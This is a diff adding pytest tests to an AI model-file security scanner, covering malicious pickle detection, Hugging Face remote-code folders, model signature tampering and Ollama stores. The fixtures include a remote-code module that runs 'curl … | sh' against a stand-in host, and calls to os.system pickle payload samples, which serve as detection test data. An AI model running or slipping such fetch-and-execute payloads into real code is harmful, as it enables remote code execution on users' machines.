@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import hashlib
+import io
 import json
 import pickle
 import struct
@@ -17,8 +18,9 @@ from safetensors.numpy import save_file
 
 from aispm.collectors.base import CollectorError, ModelMention, Observation, SourceFile, scope_of
 from aispm.collectors.model_files import ModelFileCollector
-from aispm.model import Asset, AssetKind
+from aispm.model import Asset, AssetKind, RelationKind, ScanResult
 from aispm.pipeline import ScanOptions, scan
+from tests.analysis import pickle_samples as samples
 
 
 def source(root: Path, rel: str) -> SourceFile:
@@ -41,6 +43,13 @@ def collect(root: Path, rel: str) -> list[Observation]:
     c = ModelFileCollector()
     assert c.wants(f), rel
     return list(c.collect(f))
+
+
+def observe(root: Path, rel: str) -> list[Observation]:
+    """What the collector yields for ``rel``: nothing when it does not want the file."""
+    f = source(root, rel)
+    c = ModelFileCollector()
+    return list(c.collect(f)) if c.wants(f) else []
 
 
 def only_asset(obs: list[Observation]) -> Asset:
@@ -288,3 +297,429 @@ def test_pipeline_mixed_tree(tmp_path: Path) -> None:
     result = scan([tmp_path], ScanOptions(collectors=["model-files"], checks=[]))
     assert result.errors == ()
     assert [(a.kind.value, a.name) for a in result.assets] == [("model", "models/clf.joblib")]
+
+
+# --- static safety: routing by content -------------------------------------------------------------
+
+CANARY = "canary-created-if-executed"
+
+
+def links(result: ScanResult, kind: RelationKind) -> set[tuple[str, str]]:
+    """(source name, target name) of the relations of ``kind`` in a scan result."""
+    names = {a.id: a.name for a in result.assets}
+    return {(names[r.source], names[r.target]) for r in result.relations if r.kind is kind}
+
+
+def model_scan(root: Path) -> ScanResult:
+    return scan([root], ScanOptions(collectors=["model-files"], checks=[]))
+
+
+@pytest.mark.parametrize("rel", ["notes.txt", "model.safetensors", "payload", "weights/model.bin"])
+def test_malicious_pickle_is_found_whatever_its_name(tmp_path: Path, rel: str) -> None:
+    place(tmp_path, rel, samples.os_system_p2_global(tmp_path / CANARY))
+    a = only_asset(collect(tmp_path, rel))  # and no CollectorError: the content is read as what it is
+    safety = a.properties["safety"]
+    assert safety["verdict"] == "malicious" and "os.system" in safety["globals"]
+    assert {i["rule"] for i in safety["issues"]} == {"pickle.exec"}
+    assert a.properties["sha256"] == sha(tmp_path / rel)
+    assert not (tmp_path / CANARY).exists()
+
+
+def test_pickle_named_safetensors_is_inventoried_as_a_pickle(tmp_path: Path) -> None:
+    place(tmp_path, "m.safetensors", samples.os_system_p4_stack_global(tmp_path / CANARY))
+    result = model_scan(tmp_path)
+    assert result.errors == ()
+    (a,) = result.assets
+    assert (a.properties["format"], a.properties["serialization_risk"]) == ("pickle", "pickle")
+    assert "header_valid" not in a.properties
+
+
+@pytest.mark.parametrize("rel", ["notes.txt", "state", "cache/entry.dat"])
+def test_safe_pickle_without_a_model_name_is_data(tmp_path: Path, rel: str) -> None:
+    place(tmp_path, rel, pickle.dumps({"rows": [1, 2, 3], "label": "x"}, protocol=4))
+    assert collect(tmp_path, rel) == []
+    # The same bytes under a model name are a model (a pickle, with its serialization risk).
+    place(tmp_path, "clf.pkl", pickle.dumps({"rows": [1, 2, 3], "label": "x"}, protocol=4))
+    p = only_asset(collect(tmp_path, "clf.pkl")).properties
+    assert p["safety"]["verdict"] == "safe" and p["serialization_risk"] == "pickle"
+
+
+def _office_zip() -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
+        zf.writestr("_rels/.rels", "<Relationships/>")
+        zf.writestr("word/document.xml", "<w:document><w:body>quarterly model review</w:body></w:document>")
+        zf.writestr("docProps/core.xml", "<cp:coreProperties/>")
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("rel", ["report.docx", "report.xlsx", "bundle.zip", "export", "model-review.bin"])
+def test_zip_of_office_xml_is_not_a_model(tmp_path: Path, rel: str) -> None:
+    place(tmp_path, rel, _office_zip())
+    assert observe(tmp_path, rel) == []
+
+
+def test_zip_with_a_malicious_member_of_any_name_is_found(tmp_path: Path) -> None:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as zf:
+        zf.writestr("docs/readme.txt", "hello")
+        zf.writestr("assets/blob", samples.os_system_p0_global(tmp_path / CANARY))
+    place(tmp_path, "assets.zip", out.getvalue())
+    safety = only_asset(collect(tmp_path, "assets.zip")).properties["safety"]
+    assert safety["verdict"] == "malicious"
+    assert any(i.get("member") == "assets/blob" for i in safety["issues"])
+
+
+@pytest.mark.parametrize("legacy", [False, True])
+def test_torch_save_checkpoint_is_safe(tmp_path: Path, legacy: bool) -> None:
+    torch = pytest.importorskip("torch")
+    torch.manual_seed(0)
+    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
+    torch.save(
+        {"state_dict": model.state_dict(), "epoch": 3},
+        tmp_path / "ckpt.pt",
+        _use_new_zipfile_serialization=not legacy,
+    )
+    p = only_asset(collect(tmp_path, "ckpt.pt")).properties
+    assert p["safety"]["verdict"] == "safe" and p["safety"]["issues"] == []
+    assert "torch._utils._rebuild_tensor_v2" in p["safety"]["globals"]
+    assert (p["framework"], p["serialization_risk"]) == ("pytorch", "pickle")
+    assert p["safety"]["format"] == ("pytorch-legacy" if legacy else "pytorch-zip")
+    assert p["pickles"] >= 1
+    # Route by content: the same checkpoint with no extension is still a model, and still safe.
+    (tmp_path / "ckpt").write_bytes((tmp_path / "ckpt.pt").read_bytes())
+    assert only_asset(collect(tmp_path, "ckpt")).properties["safety"]["verdict"] == "safe"
+
+
+def test_safety_facts_from_the_safetensors_reader(tmp_path: Path) -> None:
+    save_file(
+        {"a": np.zeros((4, 4), dtype=np.float16), "b": np.zeros(3, dtype=np.float32)}, tmp_path / "m.st"
+    )
+    (tmp_path / "m.safetensors").write_bytes((tmp_path / "m.st").read_bytes())
+    p = only_asset(collect(tmp_path, "m.safetensors")).properties
+    assert p["safety"]["verdict"] == "safe" and p["safety"]["format"] == "safetensors"
+    assert (p["tensor_count"], p["parameter_count"], sorted(p["dtypes"])) == (2, 19, ["F16", "F32"])
+    # An unknown extension with safetensors content is a model too.
+    assert only_asset(collect(tmp_path, "m.st")).properties["format"] == "safetensors"
+
+
+def test_lfs_pointer_is_not_scanned_and_does_not_fail(tmp_path: Path) -> None:
+    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'b' * 64}\nsize 99\n"
+    for rel in ("lfs/pytorch_model.bin", "lfs/model.pkl", "lfs/model.safetensors"):
+        place(tmp_path, rel, pointer)
+    result = model_scan(tmp_path)
+    assert result.errors == ()
+    assert len(result.assets) == 3
+    for a in result.assets:
+        assert a.properties["lfs_pointer"] is True and "safety" not in a.properties
+        assert (a.properties["sha256"], a.properties["size"]) == ("b" * 64, 99)
+    # A pointer-shaped text file without a model name is nothing.
+    place(tmp_path, "notes/pointer.txt", pointer)
+    assert observe(tmp_path, "notes/pointer.txt") == []
+
+
+def test_safety_issues_are_bounded(tmp_path: Path) -> None:
+    from aispm.analysis.artifact_report import ArtifactReport, Issue, Verdict
+    from aispm.collectors.model_files import safety_properties
+    from aispm.model import Severity
+
+    issues = tuple(
+        Issue("pickle.exec", Verdict.MALICIOUS, Severity.CRITICAL, f"call {i}", offset=i) for i in range(250)
+    )
+    report = ArtifactReport("pickle", issues=issues, globals=tuple(f"m{i}.f" for i in range(500)))
+    out = safety_properties(report)
+    assert len(out["issues"]) == 100 and out["issues_total"] == 250
+    assert len(out["globals"]) == 200 and out["globals_total"] == 500
+    assert out["verdict"] == "malicious"
+
+
+# --- Hugging Face model folders ------------------------------------------------------------------
+
+CHAT_TEMPLATE = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"
+REMOTE_MODELING = (
+    "import os\n\nos.system('curl -s https://example.invalid/x | sh')\n\nclass TinyModel:\n    pass\n"
+)
+
+
+def hf_folder(
+    root: Path, rel: str, *, config: dict[str, object] | None = None, card: str | None = None
+) -> Path:
+    folder = root / rel
+    folder.mkdir(parents=True, exist_ok=True)
+    save_file(
+        {"embed.weight": np.zeros((8, 4), dtype=np.float32)}, folder / "model.safetensors", {"format": "pt"}
+    )
+    doc = config or {"architectures": ["BertForSequenceClassification"], "model_type": "bert"}
+    (folder / "config.json").write_text(json.dumps(doc))
+    (folder / "tokenizer_config.json").write_text(
+        json.dumps({"tokenizer_class": "BertTokenizerFast", "chat_template": CHAT_TEMPLATE})
+    )
+    (folder / "tokenizer.json").write_text(json.dumps({"version": "1.0", "model": {"type": "WordPiece"}}))
+    if card is not None:
+        (folder / "README.md").write_text(card)
+    return folder
+
+
+def test_ordinary_hf_folder_has_no_directory_asset_and_no_issues(tmp_path: Path) -> None:
+    hf_folder(tmp_path, "models/clf")
+    assert collect(tmp_path, "models/clf/config.json") == []
+    result = model_scan(tmp_path)
+    assert result.errors == ()
+    (a,) = result.assets
+    assert a.name == "models/clf/model.safetensors"
+    assert a.properties["safety"]["verdict"] == "safe" and "model_dir" not in a.properties
+    assert a.properties["architecture"] == "BertForSequenceClassification"
+    assert result.relations == ()  # the directory is not an asset, so it owns nothing
+
+
+def test_hf_folder_with_remote_code_is_a_directory_asset_owning_its_weights(tmp_path: Path) -> None:
+    folder = hf_folder(
+        tmp_path,
+        "models/tiny",
+        config={
+            "architectures": ["TinyModel"],
+            "model_type": "tiny",
+            "auto_map": {"AutoModel": "modeling_tiny.TinyModel"},
+        },
+    )
+    (folder / "modeling_tiny.py").write_text(REMOTE_MODELING)
+    d = only_asset(collect(tmp_path, "models/tiny/config.json"))
+    assert (d.name, d.properties["format"], d.properties["source"]) == (
+        "models/tiny",
+        "huggingface-config",
+        "artifact",
+    )
+    model_dir = d.properties["model_dir"]
+    rules = [i["rule"] for i in model_dir["issues"]]
+    assert "hf.remote-code" in rules and "hf.custom-code-dangerous" in rules
+    assert model_dir["verdict"] == "malicious"
+    assert model_dir["facts"]["remote_code"] is True
+    result = model_scan(tmp_path)
+    assert links(result, RelationKind.CONTAINS) == {("models/tiny", "models/tiny/model.safetensors")}
+    assert {a.name for a in result.assets} == {"models/tiny", "models/tiny/model.safetensors"}
+
+
+@pytest.mark.parametrize(
+    "config",
+    [
+        {"model_type": "tiny", "auto_map": {"AutoModel": "modeling_tiny.TinyModel"}},
+        {"auto_map": {"AutoModel": "modeling_tiny.TinyModel"}},
+    ],
+)
+def test_remote_code_config_without_architectures(tmp_path: Path, config: dict[str, object]) -> None:
+    folder = hf_folder(tmp_path, "m", config=config)
+    (folder / "modeling_tiny.py").write_text("class TinyModel:\n    pass\n")
+    d = only_asset(collect(tmp_path, "m/config.json"))
+    assert [i["rule"] for i in d.properties["model_dir"]["issues"]] == ["hf.remote-code"]
+
+
+def test_hf_folder_with_pickle_weights_beside_safetensors(tmp_path: Path) -> None:
+    torch = pytest.importorskip("torch")
+    folder = hf_folder(tmp_path, "m")
+    torch.save({"embed.weight": torch.zeros(8, 4)}, folder / "pytorch_model.bin")
+    d = only_asset(collect(tmp_path, "m/config.json"))
+    issues = d.properties["model_dir"]["issues"]
+    assert [i["rule"] for i in issues] == ["hf.mixed-formats"]
+    assert issues[0]["detail"]["pickle"] == ["pytorch_model.bin"]
+    result = model_scan(tmp_path)
+    assert links(result, RelationKind.CONTAINS) == {
+        ("m", "m/model.safetensors"),
+        ("m", "m/pytorch_model.bin"),
+    }
+    weights = {a.name: a for a in result.assets}["m/pytorch_model.bin"]
+    assert weights.properties["safety"]["verdict"] == "safe"
+
+
+def test_model_card_facts_and_base_model(tmp_path: Path) -> None:
+    card = (
+        "---\nlicense: apache-2.0\nbase_model: google-bert/bert-base-uncased\nbase_model_relation: finetune\n"
+        "datasets:\n- imdb\npipeline_tag: text-classification\n---\n# Ticket classifier\n"
+    )
+    hf_folder(tmp_path, "models/clf", card=card)
+    obs = collect(tmp_path, "models/clf/model.safetensors")
+    a = only_asset(obs)
+    p = a.properties
+    assert (p["license"], p["base_model"], p["datasets"], p["pipeline_tag"]) == (
+        "apache-2.0",
+        ["google-bert/bert-base-uncased"],
+        ["imdb"],
+        "text-classification",
+    )
+    (m,) = [o for o in obs if isinstance(o, ModelMention)]
+    assert (m.value, m.relation, m.owner, m.strong) == (
+        "google-bert/bert-base-uncased",
+        RelationKind.DERIVED_FROM,
+        a.id,
+        True,
+    )
+    result = model_scan(tmp_path)
+    assert links(result, RelationKind.DERIVED_FROM) == {
+        ("models/clf/model.safetensors", "google-bert/bert-base-uncased")
+    }
+    base = {x.name: x for x in result.assets}["google-bert/bert-base-uncased"]
+    assert base.properties["provider"] == "huggingface"
+    assert base.properties["purl"] == "pkg:huggingface/google-bert/bert-base-uncased"
+
+
+def test_model_card_of_a_folder_without_weights(tmp_path: Path) -> None:
+    place(tmp_path, "adapters/lora/config.json", json.dumps({"architectures": ["LlamaForCausalLM"]}))
+    place(
+        tmp_path, "adapters/lora/README.md", "---\nlicense: mit\nbase_model: meta-llama/Llama-3.1-8B\n---\n"
+    )
+    result = model_scan(tmp_path)
+    d = {a.name: a for a in result.assets}["adapters/lora"]
+    assert d.properties["license"] == "mit" and d.properties["model_dir"]["issues"] == []
+    assert links(result, RelationKind.DERIVED_FROM) == {("adapters/lora", "meta-llama/Llama-3.1-8B")}
+
+
+@pytest.mark.parametrize("base", ["./local-checkpoint", "/abs/path", "a/b/c", "just-a-name"])
+def test_base_models_that_are_not_hub_ids_are_not_linked(tmp_path: Path, base: str) -> None:
+    hf_folder(tmp_path, "m", card=f"---\nbase_model: {base}\nlicense: mit\n---\n")
+    obs = collect(tmp_path, "m/model.safetensors")
+    assert [o for o in obs if isinstance(o, ModelMention)] == []
+    assert only_asset(obs).properties["license"] == "mit"
+
+
+def test_card_without_front_matter_adds_nothing(tmp_path: Path) -> None:
+    hf_folder(tmp_path, "m", card="# My model\n\nlicense: mit\nbase_model: org/x\n")
+    p = only_asset(collect(tmp_path, "m/model.safetensors")).properties
+    assert "license" not in p and "base_model" not in p
+
+
+# --- signatures ----------------------------------------------------------------------------------
+
+
+def _sign(model: Path, key_dir: Path) -> Path:
+    """Sign ``model`` (a folder) with model-signing's elliptic-key signer; the bundle is model.sig."""
+    model_signing = pytest.importorskip("model_signing")
+    from cryptography.hazmat.primitives import serialization
+    from cryptography.hazmat.primitives.asymmetric import ec
+
+    key = ec.generate_private_key(ec.SECP256R1())
+    private = key_dir / "signer.pem"
+    private.write_bytes(
+        key.private_bytes(
+            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
+        )
+    )
+    hashing = model_signing.hashing.Config().use_file_serialization().set_ignored_paths(paths=["model.sig"])
+    config = model_signing.signing.Config().use_elliptic_key_signer(private_key=private)
+    config.set_hashing_config(hashing)
+    config.sign(model, model / "model.sig")
+    return model / "model.sig"
+
+
+def test_signed_model_folder_and_tampering(tmp_path: Path) -> None:
+    root = tmp_path / "repo"
+    folder = hf_folder(root, "models/signed", card="---\nlicense: mit\n---\n")
+    _sign(folder, tmp_path)
+    f = source(root, "models/signed/model.sig")
+    assert not ModelFileCollector().cacheable(f)
+    d = only_asset(collect(root, "models/signed/model.sig"))
+    assert (d.name, d.properties["format"]) == ("models/signed", "model-directory")
+    sig = d.properties["signature"]
+    assert (sig["verdict"], sig["issues"], sig["bundle"]) == ("safe", [], "models/signed/model.sig")
+    assert sig["facts"]["integrity"] == "valid-digests" and sig["facts"]["signed_files"] >= 4
+    result = model_scan(root)
+    assert links(result, RelationKind.CONTAINS) == {("models/signed", "models/signed/model.safetensors")}
+    # Swap the weights after signing: the signature no longer matches.
+    save_file({"embed.weight": np.ones((8, 4), dtype=np.float32)}, folder / "model.safetensors")
+    sig = only_asset(collect(root, "models/signed/model.sig")).properties["signature"]
+    assert sig["verdict"] == "malicious"
+    (issue,) = sig["issues"]
+    assert (issue["rule"], issue["severity"]) == ("signing.mismatch", "critical")
+    assert issue["detail"]["changed"] == ["model.safetensors"]
+
+
+def test_broken_signature_bundle_is_data(tmp_path: Path) -> None:
+    hf_folder(tmp_path, "m")
+    place(tmp_path, "m/model.sig", b"{not a bundle")
+    result = model_scan(tmp_path)
+    assert result.errors == ()
+    d = {a.name: a for a in result.assets}["m"]
+    assert d.properties["signature"]["verdict"] == "unscannable"
+
+
+# --- Ollama stores -------------------------------------------------------------------------------
+
+OLLAMA = "application/vnd.ollama.image."
+
+
+def _ollama_store(root: Path, name: str = "registry.ollama.ai/library/tiny/latest") -> tuple[Path, str]:
+    """An Ollama store as ``ollama pull`` leaves it (a real GGUF blob); returns (store, blob digest)."""
+    store = root / ".ollama" / "models"
+    (store / "blobs").mkdir(parents=True)
+
+    def blob(data: bytes) -> dict[str, object]:
+        digest = hashlib.sha256(data).hexdigest()
+        (store / "blobs" / f"sha256-{digest}").write_bytes(data)
+        return {"digest": f"sha256:{digest}", "size": len(data)}
+
+    w = gguf.GGUFWriter(str(root / "tmp.gguf"), "llama")
+    w.add_name("tiny")
+    w.add_tensor("w", np.zeros((4, 4), dtype=np.float32))
+    w.write_header_to_file()
+    w.write_kv_data_to_file()
+    w.write_tensors_to_file()
+    w.close()
+    weights = blob((root / "tmp.gguf").read_bytes())
+    (root / "tmp.gguf").unlink()
+    config = blob(json.dumps({"model_format": "gguf", "model_family": "llama", "file_type": "Q4_0"}).encode())
+    doc = {
+        "schemaVersion": 2,
+        "mediaType": "application/vnd.docker.distribution.manifest.v2+json",
+        "config": {"mediaType": "application/vnd.docker.container.image.v1+json", **config},
+        "layers": [
+            {"mediaType": OLLAMA + "model", **weights},
+            {"mediaType": OLLAMA + "license", **blob(b"MIT License")},
+            {"mediaType": OLLAMA + "template", **blob(b"{{ .Prompt }}")},
+        ],
+    }
+    manifest = store / "manifests" / name
+    manifest.parent.mkdir(parents=True)
+    manifest.write_text(json.dumps(doc))
+    return store, str(weights["digest"]).replace(":", "-")
+
+
+def test_ollama_store_models_contain_their_blobs(tmp_path: Path) -> None:
+    store, blob = _ollama_store(tmp_path)
+    manifest = source(tmp_path, ".ollama/models/manifests/registry.ollama.ai/library/tiny/latest")
+    assert not ModelFileCollector().cacheable(manifest)
+    result = model_scan(tmp_path)
+    assert result.errors == ()
+    by_name = {a.name: a for a in result.assets}
+    model = by_name["tiny:latest"]
+    p = model.properties
+    assert (p["provider"], p["format"], p["model_family"], p["license_text"]) == (
+        "ollama",
+        "ollama-manifest",
+        "llama",
+        "MIT License",
+    )
+    assert p["ollama"]["verdict"] == "safe"
+    blob_name = f".ollama/models/blobs/{blob}"
+    weights = by_name[blob_name]
+    assert (weights.properties["format"], weights.properties["safety"]["verdict"]) == ("gguf", "safe")
+    assert links(result, RelationKind.CONTAINS) == {("tiny:latest", blob_name)}
+    # Text layers (license, template) are not models.
+    assert set(by_name) == {"tiny:latest", blob_name}
+    # A missing blob is noted on the model, not an error; the checks judge the manifest's issues.
+    (store / "blobs" / blob).unlink()
+    checks = [f"AISPM-MODEL-00{i}" for i in range(1, 7)]
+    again = scan([tmp_path], ScanOptions(collectors=["model-files"], checks=checks))
+    assert again.errors == ()
+    (model,) = [a for a in again.assets if a.name == "tiny:latest"]
+    assert [i["rule"] for i in model.properties["ollama"]["issues"]] == ["ollama.blob-missing"]
+    assert links(again, RelationKind.CONTAINS) == set()
+    assert [(f.check_id, str(f.severity), f.asset_id) for f in again.findings] == [
+        ("AISPM-MODEL-003", "low", model.id)
+    ]
+    assert all(r.not_assessed == 0 for r in again.check_runs)
+
+
+def test_cacheable_opt_out(tmp_path: Path) -> None:
+    hf_folder(tmp_path, "m")
+    c = ModelFileCollector()
+    assert not c.cacheable(source(tmp_path, "m/config.json"))
+    assert c.cacheable(source(tmp_path, "m/model.safetensors"))
